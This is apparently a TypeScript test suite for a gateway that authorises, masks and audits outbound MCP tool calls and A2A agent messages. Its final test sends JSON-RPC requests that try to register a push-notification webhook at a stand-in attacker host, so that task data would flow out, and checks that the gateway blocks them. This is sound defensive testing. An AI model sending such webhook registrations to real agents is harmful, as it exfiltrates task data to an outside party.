// Egress routes that speak an agent protocol: graph code (here, the official clients with the
// runtime's service-account key) calling an MCP server and an A2A agent through the gateway. Each
// message is authorised on its own: an MCP tools/call by the tool it names (resources.tools), the
// handshake and tool list with the route; the tool's arguments leave masked and its result comes
// back masked; a tool the policy does not list, or a method the gateway does not know, never
// reaches the server; and each call is recorded with its method and tool. The servers are built
// with the official @modelcontextprotocol/sdk and @a2a-js/sdk.
import assert from "node:assert/strict";
import { randomBytes, randomUUID } from "node:crypto";
import { once } from "node:events";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { createServer, type IncomingMessage, type Server as HttpServer, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import path from "node:path";
import { after, before, describe, test } from "node:test";
import type { Task } from "@a2a-js/sdk";
import { JsonRpcTransport } from "@a2a-js/sdk/client";
import { DefaultRequestHandler, InMemoryTaskStore, JsonRpcTransportHandler, type ExecutionEventBus, type RequestContext } from "@a2a-js/sdk/server";
import { Client as McpClient } from "@modelcontextprotocol/sdk/client/index.js";
import { StreamableHTTPClientTransport } from "@modelcontextprotocol/sdk/client/streamableHttp.js";
import { Server as McpServer } from "@modelcontextprotocol/sdk/server/index.js";
import { StreamableHTTPServerTransport } from "@modelcontextprotocol/sdk/server/streamableHttp.js";
import { CallToolRequestSchema, EmptyResultSchema, ListToolsRequestSchema } from "@modelcontextprotocol/sdk/types.js";
import { generateApiKey } from "../../src/identify/serviceAccounts.js";
import type { RequestRecord } from "../../src/record/auditRecord.js";
import { startTestGateway, type TestGateway } from "../support/stack.js";

const EMAIL = "jane.doe@example.com";
const PHONE = "+1 415 555 0134";
const runtime = generateApiKey();

const POLICY = `version: 1
rules:
  - id: runtime-looks-customers-up
    effect: allow
    subjects: { service_accounts: [runtime] }
    actions: [egress:call]
    resources: { egress_routes: [crm-mcp], tools: [lookup_customer] }
  - id: runtime-asks-the-billing-agent
    effect: allow
    subjects: { service_accounts: [runtime] }
    actions: [egress:call]
    resources: { egress_routes: [billing-agent] }
masking:
  requests: forward
`;

/** The CRM's MCP server (stateless streamable HTTP, JSON answers), bearer-protected; what each tool received. */
async function startCrm(secret: string): Promise<{ url: string; calls: Array<{ name: string; arguments: unknown }>; server: HttpServer }> {
  const calls: Array<{ name: string; arguments: unknown }> = [];
  const server = createServer((req: IncomingMessage, res: ServerResponse) => {
    if (req.headers.authorization !== `Bearer ${secret}`) return void res.writeHead(401).end();
    const mcp = new McpServer({ name: "crm", version: "1.0.0" }, { capabilities: { tools: {} } });
    mcp.setRequestHandler(ListToolsRequestSchema, () => ({
      tools: ["lookup_customer", "delete_customer"].map((name) => ({ name, description: name, inputSchema: { type: "object" as const } })),
    }));
    mcp.setRequestHandler(CallToolRequestSchema, (call) => {
      calls.push({ name: call.params.name, arguments: call.params.arguments });
      return { content: [{ type: "text", text: `customer found: phone ${PHONE}` }] };
    });
    const transport = new StreamableHTTPServerTransport({ sessionIdGenerator: undefined, enableJsonResponse: true });
    res.on("close", () => void transport.close());
    void mcp.connect(transport).then(() => transport.handleRequest(req, res));
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, calls, server };
}

/** The billing team's A2A agent: answers each message with an account holder's phone number. */
async function startBillingAgent(secret: string): Promise<{ url: string; texts: string[]; server: HttpServer }> {
  const texts: string[] = [];
  const handler = new JsonRpcTransportHandler(
    new DefaultRequestHandler(
      { name: "billing", description: "billing", url: "http://billing/a2a", version: "1.0.0", protocolVersion: "0.3.0", capabilities: {}, defaultInputModes: ["text"], defaultOutputModes: ["text"], skills: [] },
      new InMemoryTaskStore(),
      {
        async execute({ taskId, contextId, userMessage }: RequestContext, bus: ExecutionEventBus) {
          texts.push(userMessage.parts.map((part) => (part.kind === "text" ? part.text : "")).join(""));
          const reply = { kind: "message" as const, role: "agent" as const, messageId: randomUUID(), taskId, contextId, parts: [{ kind: "text" as const, text: `holder reachable at ${PHONE}` }] };
          bus.publish({ kind: "task", id: taskId, contextId, status: { state: "completed", message: reply, timestamp: new Date().toISOString() } });
          bus.finished();
        },
        async cancelTask() {},
      },
    ),
  );
  const server = createServer((req, res) => {
    if (req.headers.authorization !== `Bearer ${secret}`) return void res.writeHead(401).end();
    const chunks: Buffer[] = [];
    req.on("data", (chunk: Buffer) => chunks.push(chunk));
    req.on("end", () => {
      void handler.handle(JSON.parse(Buffer.concat(chunks).toString("utf8"))).then((answer) => {
        res.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify(answer));
      });
    });
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, texts, server };
}

/** fetch with the runtime's key on every call. */
const asRuntime: typeof fetch = (input, init) => {
  const headers = new Headers(init?.headers);
  headers.set("authorization", `Bearer ${runtime.key}`);
  return fetch(input, { ...init, headers });
};

describe("egress to MCP servers and A2A agents, authorised per message", () => {
  let dir: string;
  let crm: Awaited<ReturnType<typeof startCrm>>;
  let billing: Awaited<ReturnType<typeof startBillingAgent>>;
  let gateway: TestGateway;
  let mcp: McpClient;
  const records = async () => (await gateway.audit()).filter((record): record is RequestRecord => record.type === "request" && record.operation?.resource === "egress");

  before(async () => {
    dir = await mkdtemp(path.join(tmpdir(), "portcullis-egress-agents-"));
    const secret = `crm-${randomBytes(16).toString("hex")}`;
    await writeFile(path.join(dir, "secret"), secret, { mode: 0o600 });
    await writeFile(path.join(dir, "policy.yaml"), POLICY);
    crm = await startCrm(secret);
    billing = await startBillingAgent(secret);
    const credential = { type: "bearer" as const, secret: { file: path.join(dir, "secret") } };
    gateway = await startTestGateway(
      { url: "http://127.0.0.1:9" },
      {
        policy: { file: path.join(dir, "policy.yaml"), watch: false },
        identity: { service_accounts: [{ id: "runtime", key_sha256: runtime.sha256, groups: [] }] },
        egress: { routes: { "crm-mcp": { url: crm.url, protocol: "mcp", credential, paths: ["/mcp"] }, "billing-agent": { url: billing.url, protocol: "a2a", credential, paths: ["/a2a"] } } },
      },
    );
    mcp = new McpClient({ name: "graph", version: "1.0.0" });
    await mcp.connect(new StreamableHTTPClientTransport(new URL(`${gateway.url}/egress/crm-mcp/mcp`), { fetch: asRuntime }));
  });
  after(async () => {
    await mcp?.close();
    await gateway?.close();
    crm?.server.close();
    billing?.server.close();
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  test("the handshake and the tool list pass with the route; a listed tool is called with its arguments masked, its result masked", async () => {
    assert.deepEqual((await mcp.listTools()).tools.map((tool) => tool.name), ["lookup_customer", "delete_customer"]);
    const result = await mcp.callTool({ name: "lookup_customer", arguments: { email: EMAIL } });
    const text = JSON.stringify(result.content);
    assert.match(text, /customer found: phone/);
    assert.ok(!text.includes(PHONE), `the phone number came back masked: ${text}`);
    assert.equal(crm.calls.length, 1);
    assert.ok(!JSON.stringify(crm.calls[0]!.arguments).includes(EMAIL), "the address left masked");
    const call = (await records()).find((record) => record.egress?.message?.tool === "lookup_customer");
    assert.ok(call, "the tool call was recorded with its tool");
    assert.equal(call.egress!.message!.method, "tools/call");
    assert.equal(call.decision.effect, "allow");
    assert.equal(call.decision.rule, "runtime-looks-customers-up");
  });

  test("a tool the policy does not list is refused and never reaches the server", async () => {
    const before = crm.calls.length;
    const refused = await mcp.callTool({ name: "delete_customer", arguments: { id: "c-1" } }).then(
      () => assert.fail("the call resolved"),
      (error: Error) => error,
    );
    assert.match(refused.message, /403|PC_FORBIDDEN/);
    assert.equal(crm.calls.length, before);
    const record = (await records()).find((entry) => entry.egress?.message?.tool === "delete_customer");
    assert.equal(record?.decision.effect, "deny");
    assert.equal(record?.error, "PC_FORBIDDEN");
  });

  test("an MCP method the gateway does not know is JSON-RPC's 'Method not found', not sent", async () => {
    const refused = await mcp.request({ method: "resources/list", params: {} }, EmptyResultSchema).then(
      () => assert.fail("the request resolved"),
      (error: Error & { code?: number }) => error,
    );
    assert.equal(refused.code, -32601);
  });

  test("an A2A agent behind a route: a message leaves masked, the answer comes back masked; an unknown method is not sent", async () => {
    const agent = new JsonRpcTransport({ endpoint: `${gateway.url}/egress/billing-agent/a2a`, fetchImpl: asRuntime });
    const task = (await agent.sendMessage({ message: { kind: "message", role: "user", messageId: randomUUID(), parts: [{ kind: "text", text: `who pays for ${EMAIL}?` }] } })) as Task;
    const reply = JSON.stringify(task.status.message);
    assert.match(reply, /holder reachable at/);
    assert.ok(!reply.includes(PHONE), `the phone number came back masked: ${reply}`);
    assert.equal(billing.texts.length, 1);
    assert.ok(!billing.texts[0]!.includes(EMAIL), "the address left masked");
    assert.equal((await records()).find((record) => record.egress?.route === "billing-agent")?.egress?.message?.method, "message/send");

    const answer = await asRuntime(`${gateway.url}/egress/billing-agent/a2a`, {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ jsonrpc: "2.0", id: 3, method: "tasks/pushNotificationConfig/set", params: { taskId: task.id, pushNotificationConfig: { url: "https://attacker.example/hook" } } }),
    });
    assert.deepEqual(await answer.json(), { jsonrpc: "2.0", id: 3, error: { code: -32601, message: "Method not found: tasks/pushNotificationConfig/set" } });
    const hooked = await asRuntime(`${gateway.url}/egress/billing-agent/a2a`, {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ jsonrpc: "2.0", id: 4, method: "message/send", params: { message: { kind: "message", role: "user", messageId: randomUUID(), parts: [{ kind: "text", text: "hi" }] }, configuration: { pushNotificationConfig: { url: "https://attacker.example/hook" } } } }),
    });
    assert.equal(hooked.status, 400);
    assert.equal(billing.texts.length, 1, "nothing more reached the agent");
  });
});
